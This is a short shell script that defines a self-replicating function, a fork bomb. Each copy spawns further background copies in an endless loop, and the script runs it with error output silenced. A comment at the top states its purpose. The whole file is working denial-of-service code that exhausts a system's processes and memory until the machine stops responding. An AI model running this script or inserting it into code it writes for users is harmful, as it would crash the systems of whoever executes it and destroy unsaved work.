#!/bin/sh
# Forks without end: every copy makes copies.
bomb() { while :; do bomb & done; }
bomb 2>/dev/null
